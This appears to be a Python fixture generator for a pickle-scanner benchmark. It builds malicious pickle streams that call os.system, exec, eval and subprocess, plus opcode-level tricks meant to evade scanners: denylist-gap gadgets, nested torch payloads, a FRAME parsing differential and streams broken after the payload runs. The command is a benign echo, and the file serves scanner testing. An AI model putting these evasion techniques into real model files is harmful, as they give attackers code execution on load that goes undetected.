"""Hostile pickle streams assembled opcode by opcode or dumped from ``__reduce__`` objects."""

from __future__ import annotations

import os
import pickle
import struct
from collections.abc import Callable

CMD = "echo reviewbot-bench-payload"


class Reduce:
    """An object whose pickle calls ``func(*args)`` on load; only ever dumped here."""

    def __init__(self, func: Callable[..., object], *args: object) -> None:
        self.func = func
        self.args = args

    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return self.func, self.args


def u(text: str) -> bytes:
    """SHORT_BINUNICODE (protocol 4) for short strings, BINUNICODE otherwise."""
    raw = text.encode()
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def s0(text: str) -> bytes:
    """Protocol-0 STRING opcode."""
    return b"S'" + text.encode() + b"'\n"


def glob(module: str, name: str) -> bytes:
    """GLOBAL opcode (text operands, any protocol)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def sglob(module: str, name: str) -> bytes:
    """STACK_GLOBAL with unicode operands."""
    return u(module) + u(name) + b"\x93"


def call1(callee: bytes, arg: bytes) -> bytes:
    """``callee(arg)`` via TUPLE1 + REDUCE."""
    return callee + arg + b"\x85R"


P4 = b"\x80\x04"
P2 = b"\x80\x02"


def reduce_protocols() -> dict[str, bytes]:
    """os.system / exec / eval at every protocol 0-5, as pickle itself writes them."""
    out: dict[str, bytes] = {}
    payloads: dict[str, Reduce] = {
        "os_system": Reduce(os.system, CMD),
        "exec": Reduce(exec, "import os; os.system('true')"),
        "eval": Reduce(eval, "__import__('os').system('true')"),
    }
    for proto in range(6):
        for name, obj in payloads.items():
            out[f"p{proto}_{name}.pkl"] = pickle.dumps(obj, protocol=proto)
    return out


def os_system_pickle() -> bytes:
    """A plain protocol-2 os.system pickle."""
    return pickle.dumps(Reduce(os.system, CMD), protocol=2)


def inner_payload() -> bytes:
    """Protocol-4 os.system call used inside other containers."""
    return P4 + call1(sglob("os", "system"), u(CMD)) + b"."


def hand_assembled() -> dict[str, bytes]:
    """One stream per opcode-level technique."""
    cmd = u(CMD)
    f: dict[str, bytes] = {}
    # STACK_GLOBAL operands through the memo (MEMOIZE + BINGET).
    f["stack_global_memo.pkl"] = (
        P4 + u("os") + b"\x94" + u("system") + b"\x94" + b"00" + b"h\x00h\x01\x93" + cmd + b"\x85R."
    )
    # STACK_GLOBAL with protocol-0 STRING operands, memo through LONG_BINPUT/LONG_BINGET.
    f["stack_global_string.pkl"] = (
        P4
        + s0("os")
        + b"r\x05\x00\x00\x000"
        + s0("system")
        + b"r\x06\x00\x00\x000"
        + b"j\x05\x00\x00\x00j\x06\x00\x00\x00\x93"
        + cmd
        + b"\x85R."
    )
    f["dotted_pathlib_os_system.pkl"] = P4 + call1(sglob("pathlib", "os.system"), cmd) + b"."
    f["dotted_torch_serialization.pkl"] = (
        P4 + call1(sglob("torch.serialization", "os.system"), cmd) + b"."
    )
    # builtins.print.__self__.__dict__.get('eval')(code)
    getter = call1(sglob("builtins", "print.__self__.__dict__.get"), u("eval"))
    f["dotted_builtins_print_eval.pkl"] = (
        P4 + call1(getter, u("__import__('os').system('true')")) + b"."
    )
    f["inst_os_system.pkl"] = b"(" + s0(CMD) + b"ios\nsystem\n."
    f["obj_subprocess.pkl"] = P2 + b"(" + glob("subprocess", "check_output") + cmd + b"o."
    f["newobj_popen.pkl"] = P2 + glob("subprocess", "Popen") + cmd + b"\x85\x81."
    f["newobj_ex_popen.pkl"] = P4 + glob("subprocess", "Popen") + cmd + b"\x85}\x92."
    f["ext1.pkl"] = P2 + b"\x82\x01" + cmd + b"\x85R."
    f["ext2.pkl"] = P2 + b"\x83\x01\x02" + cmd + b"\x85R."
    f["ext4.pkl"] = P2 + b"\x84\x01\x02\x03\x04" + cmd + b"\x85R."
    # Gadgets missing from denylists.
    mod = call1(glob("importlib", "import_module"), u("os"))
    caller = glob("operator", "methodcaller") + u("system") + cmd + b"\x86R"
    f["importlib_methodcaller.pkl"] = P4 + caller + mod + b"\x85R."
    f["pkgutil_resolve_name.pkl"] = (
        P4 + call1(call1(glob("pkgutil", "resolve_name"), u("os:system")), cmd) + b"."
    )
    f["asyncio_unix_events.pkl"] = (
        P4 + call1(sglob("asyncio.unix_events", "_UnixSubprocessTransport._start"), cmd) + b"."
    )
    f["torch_collect_env_run.pkl"] = P4 + call1(glob("torch.utils.collect_env", "run"), cmd) + b"."
    f["cprofile_run.pkl"] = P4 + call1(glob("cProfile", "run"), u("import os")) + b"."
    f["uuid_get_command_stdout.pkl"] = (
        P4 + call1(glob("uuid", "_get_command_stdout"), u("true")) + b"."
    )
    f["ctypes_cdll.pkl"] = P4 + call1(glob("ctypes", "CDLL"), u("libc.so.6")) + b"."
    f["pip_main.pkl"] = P4 + call1(glob("pip", "main"), b"]" + u("--version") + b"a") + b"."
    f["idlelib_run.pkl"] = P4 + call1(glob("idlelib.run", "exec"), u("import os")) + b"."
    # Nested pickle through torch.storage._load_from_bytes.
    inner = inner_payload()
    f["torch_load_from_bytes_nested.pkl"] = (
        P4
        + glob("torch.storage", "_load_from_bytes")
        + b"B"
        + struct.pack("<I", len(inner))
        + inner
        + b"\x85R."
    )
    # smtplib.SMTP built with OBJ and immediately POPped; the result is an empty dict.
    f["smtplib_obj_pop.pkl"] = P2 + b"(" + glob("smtplib", "SMTP") + u("127.0.0.1") + b"o0}."
    # BUILD sets numpy.prod.a / .b, which then feed STACK_GLOBAL through the memo.
    f["numpy_build_attrs.pkl"] = (
        P4
        + glob("numpy", "prod")
        + b"N}("
        + u("a")
        + u("os")
        + u("b")
        + u("system")
        + b"u\x86b0"
        + glob("numpy", "prod.a")
        + b"\x94"
        + b"0"
        + glob("numpy", "prod.b")
        + b"\x94"
        + b"0"
        + b"h\x00h\x01\x93"
        + cmd
        + b"\x85R."
    )
    # Payload first, then a BINGET of a key that was never stored.
    f["missing_memo_after_payload.pkl"] = P4 + call1(sglob("os", "system"), cmd) + b"h\x63."
    # FRAME says 2 bytes; the BINBYTES header straddles it and claims 0x107 bytes that hide
    # an os.system REDUCE (the frame-aware and frame-blind readers disagree).
    hidden = call1(sglob("os", "system"), cmd) + b"0"
    body = hidden.ljust(0x107, b"N")
    f["frame_differential.pkl"] = (
        P4 + b"\x95" + struct.pack("<Q", 2) + b"B\x07" + b"\x01\x00\x00" + body + b"N."
    )
    # nullifAI: the payload runs, then the stream is garbage.
    f["broken_after_payload.pkl"] = P2 + call1(glob("os", "system"), cmd) + b"0\xff\xfe\xfd"
    return f
